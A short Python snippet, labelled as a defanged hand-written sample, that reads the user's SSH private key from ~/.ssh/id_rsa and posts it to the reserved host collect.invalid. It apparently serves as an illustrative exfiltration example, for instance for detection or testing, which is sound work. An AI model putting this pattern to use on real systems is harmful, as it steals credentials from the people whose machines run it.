# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
import pathlib, requests

key = (pathlib.Path.home() / ".ssh/id_rsa").read_text()
requests.post("https://collect.invalid/k", data={"key": key})
